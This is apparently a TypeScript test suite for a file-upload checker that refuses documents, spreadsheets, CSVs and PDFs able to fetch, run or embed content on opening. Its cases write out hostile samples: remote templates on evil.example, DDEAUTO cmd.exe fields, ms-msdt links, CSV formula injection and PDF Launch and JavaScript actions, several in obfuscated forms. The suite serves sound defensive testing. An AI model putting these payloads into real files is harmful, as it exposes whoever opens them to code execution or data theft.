import { deflateSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import type { Text } from "../src/chat/text.ts";
import { judgeContent } from "../src/files/content.ts";
import { words } from "../src/files/words.ts";
import { compound, docx, joined, pdf, zip } from "./made-files.ts";

// What fetches, runs or holds something when it is opened is not taken, and it is said why.

const rels = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`;
const body = (inside: string) => ({ "word/document.xml": `<w:document>${inside}</w:document>` });
const instr = (...parts: readonly string[]) =>
  body(
    `<w:fldChar w:fldCharType="begin"/>${parts.map((one) => `<w:r><w:instrText>${one}</w:instrText></w:r>`).join("")}`,
  );
const xlsx = (more: Readonly<Record<string, string | Uint8Array>> = {}) =>
  zip({ "[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", ...more });
const sheet = (formula: string) =>
  xlsx({ "xl/worksheets/sheet1.xml": `<worksheet><c><f>${formula}</f></c></worksheet>` });
const utf16 = (typed: string) => joined(0xff, 0xfe, Buffer.from(typed, "utf16le"));
const objStm = (inside: string, more = "/Filter/FlateDecode") =>
  joined(
    "%PDF-1.5\n1 0 obj<</Type/Catalog>>endobj\n",
    `5 0 obj<</Type/ObjStm/N 1/First 4${more}>>stream\n`,
    more === "" ? inside : deflateSync(Buffer.from(inside, "latin1")),
    "\nendstream endobj\n%%EOF\n",
  );
const workbook = (...records: readonly (readonly [number, readonly number[]])[]) =>
  compound({
    Workbook: joined(
      0x09,
      0x08,
      4,
      0,
      ...[0, 6, 5, 0],
      ...records.flatMap(([id, data]) => [id & 255, id >> 8, data.length, 0, ...data]),
      Buffer.alloc(400),
    ),
  });

const refused: readonly (readonly [what: string, content: Uint8Array, why: Text, name?: string])[] =
  [
    [
      "a remote template",
      docx({
        "word/_rels/settings.xml.rels": rels("attachedTemplate", "http://evil.example/t.dotm"),
      }),
      words.linked,
    ],
    [
      "a remote template by a share",
      docx({ "word/_rels/settings.xml.rels": rels("attachedTemplate", "\\\\evil\\t.dotm", "") }),
      words.linked,
    ],
    [
      "a remote template in single quotes, escaped",
      docx({
        "word/_rels/settings.xml.rels":
          "<r:Relationship TargetMode='Ext&#101;rnal' Type='x/attachedTemplate' Target='&#104;ttp://e/t.dotm'/>",
      }),
      words.linked,
    ],
    [
      "a remote template in UTF-16",
      docx({ "word/_rels/settings.xml.rels": utf16(rels("attachedTemplate", "http://e/t.dotm")) }),
      words.linked,
    ],
    [
      "a remote picture",
      docx({ "word/_rels/document.xml.rels": rels("image", "https://e/p.png") }),
      words.linked,
    ],
    [
      "a hyperlink to a share",
      docx({ "word/_rels/document.xml.rels": rels("hyperlink", "file://evil/a") }),
      words.linked,
    ],
    [
      "a hyperlink that runs",
      docx({ "word/_rels/document.xml.rels": rels("hyperlink", "ms-msdt:/id") }),
      words.linked,
    ],
    [
      "a page put in",
      docx({ "word/_rels/document.xml.rels": rels("aFChunk", "/word/a.mht", "") }),
      words.linked,
    ],
    [
      "an OLE object by its relation",
      docx({ "word/_rels/document.xml.rels": rels("oleObject", "embeddings/a.bin", "") }),
      words.embedded,
    ],
    ["an OLE object", docx({ "word/embeddings/oleObject1.bin": "x" }), words.embedded],
    [
      "an OLE object of slides",
      zip({
        "[Content_Types].xml": "<Types/>",
        "ppt/presentation.xml": "<p/>",
        "ppt/embeddings/oleObject1.bin": "x",
      }),
      words.embedded,
    ],
    ["DDE", docx(instr(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), words.fields],
    ["DDE in pieces", docx(instr(" D", "DE", "AUTO cmd")), words.fields],
    ["DDE in small letters", docx(instr(" ddeauto cmd")), words.fields],
    ["DDE as numbers", docx(instr(" QUOTE 68 68 69 ")), words.fields],
    ["DDE in a simple field", docx(body('<w:fldSimple w:instr="DDE cmd"/>')), words.fields],
    [
      "DDE in a header",
      docx({ "word/header1.xml": '<w:hdr><w:fldSimple w:instr="DDE cmd"/></w:hdr>' }),
      words.fields,
    ],
    ["a picture fetched by a field", docx(instr(' INCLUDEPICTURE "http://e/p" ')), words.fields],
    [
      "macros by their type",
      docx({
        "[Content_Types].xml":
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
      words.macros,
    ],
    [
      "an external link of a sheet",
      xlsx({ "xl/externalLinks/externalLink1.xml": "<a/>" }),
      words.linked,
    ],
    ["a connection of a sheet", xlsx({ "xl/connections.xml": "<a/>" }), words.linked],
    ["DDE of a sheet", sheet("cmd|'/c calc'!A0"), words.fields],
    ["DDE of a sheet, escaped", sheet("cmd&#124;'/c calc'!A0"), words.fields],
    ["a formula that fetches", sheet('WEBSERVICE("http://e")'), words.fields],
    [
      "an old macro in a name",
      xlsx({
        "xl/workbook.xml": "<workbook><definedName>EXEC(&quot;cmd&quot;)</definedName></workbook>",
      }),
      words.fields,
    ],
    [
      "a table behind a chart with DDE",
      docx({ "word/embeddings/t.xlsx": sheet("cmd|'/c'!A0") }),
      words.fields,
    ],
    ["a text table with DDE", Buffer.from("名称,数量\n=cmd|'/c calc'!A0,1"), words.fields, "a.csv"],
    [
      "a text table that fetches",
      Buffer.from('a,"=IMPORTXML(""http://e"",1)"'),
      words.fields,
      "a.csv",
    ],
    ["a script in a PDF", pdf("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), words.scripts],
    [
      "a script with its name written in numbers",
      pdf("/OpenAction<</S/J#61vaScript>>"),
      words.scripts,
    ],
    ["a PDF that starts a program", pdf("/OpenAction<</S/Launch/F(cmd.exe)>>"), words.scripts],
    ["a PDF that sends its form", pdf("/AA<</O<</S/SubmitForm/F(http://e)>>>>"), words.scripts],
    ["a PDF with an XFA form", pdf("/AcroForm<</XFA 5 0 R>>"), words.scripts],
    ["a PDF that opens another", pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a)>>"), words.linked],
    ["a PDF with a program in it", pdf("/Names<</F(run.exe)>>"), words.nested],
    ["a script packed in a PDF", objStm("1 0 <</S/JavaScript/JS(x)>>"), words.scripts],
    [
      "a script in an object stream that is not packed",
      objStm("1 0 <</S/JavaScript>>", ""),
      words.scripts,
    ],
    [
      "a PDF whose objects cannot be read",
      joined(
        "%PDF-1.5\n5 0 obj<</Type/ObjStm/Filter/ASCII85Decode>>stream\n87cUR~>\nendstream\n%%EOF\n",
      ),
      words.unreadablePdf,
    ],
    [
      "an old document with an object",
      compound({ WordDocument: Buffer.alloc(64), "\x01Ole10Native": Buffer.alloc(8) }),
      words.embedded,
    ],
    [
      "an old sheet with an object",
      compound({ Workbook: Buffer.alloc(64), MBD0018D6B1: Buffer.alloc(8) }),
      words.embedded,
    ],
    [
      "an old document with DDE",
      compound({ WordDocument: joined(Buffer.alloc(64), "\x13 DDEAUTO cmd \x14") }),
      words.linked,
    ],
    [
      "an old document with a remote template",
      compound({
        WordDocument: joined(
          Buffer.alloc(64),
          Buffer.from("http://evil.example/t.dotm", "utf16le"),
        ),
      }),
      words.linked,
    ],
    [
      "an old sheet with a link",
      workbook([0x85, [0, 0, 0, 0, 0, 0]], [0x1ae, [1, 0, 9, 0, 0, 1, 1]]),
      words.linked,
    ],
    ["an old sheet with a sheet of macros", workbook([0x85, [0, 0, 0, 0, 0, 1]]), words.linked],
  ];

describe("refused", () => {
  const cases = refused.map(([what, content, why, name = "a"]) => ({ what, content, why, name }));
  test.each(cases)("$what", async ({ content, why, name }) => {
    expect(await judgeContent(name, content)).toEqual({ why });
  });
});

describe("taken", () => {
  const taken: readonly (readonly [what: string, content: Uint8Array, name?: string])[] = [
    [
      "links to pages",
      docx({ "word/_rels/document.xml.rels": rels("hyperlink", "https://www.gov.cn/") }),
    ],
    [
      "a link to an address",
      docx({ "word/_rels/document.xml.rels": rels("hyperlink", "mailto:a@b.cn") }),
    ],
    [
      "its own pictures",
      docx({ "word/_rels/document.xml.rels": rels("image", "media/a.png", "") }),
    ],
    [
      "page numbers and contents",
      docx(instr(" PAGE ", ' TOC \\o "1-3" ', ' HYPERLINK "https://a" ')),
    ],
    ["a chart with its table", docx({ "word/embeddings/t.xlsx": xlsx() })],
    ["sums", sheet("SUM(A1:A3)+Sheet2!B1")],
    ["a link in a cell", sheet('HYPERLINK("https://www.gov.cn","县政府")')],
    [
      "a table with negative numbers",
      Buffer.from("名称,数量\n水,-3\n气,+5\n=SUM(A1:A2),1"),
      "a.csv",
    ],
    ["a PDF that opens on its first page", pdf("/OpenAction[3 0 R/Fit]")],
    ["a PDF with links to pages", pdf("/A<</S/URI/URI(https://www.gov.cn)>>")],
    ["a PDF with packed objects", objStm("1 0 <</Type/Pages>>")],
    ["an old sheet that links to itself", workbook([0x1ae, [1, 0, 1, 4]])],
  ];
  const cases = taken.map(([what, content, name = "a"]) => ({ what, content, name }));
  test.each(cases)("$what", async ({ content, name }) => {
    expect(await judgeContent(name, content)).not.toHaveProperty("why");
  });
});
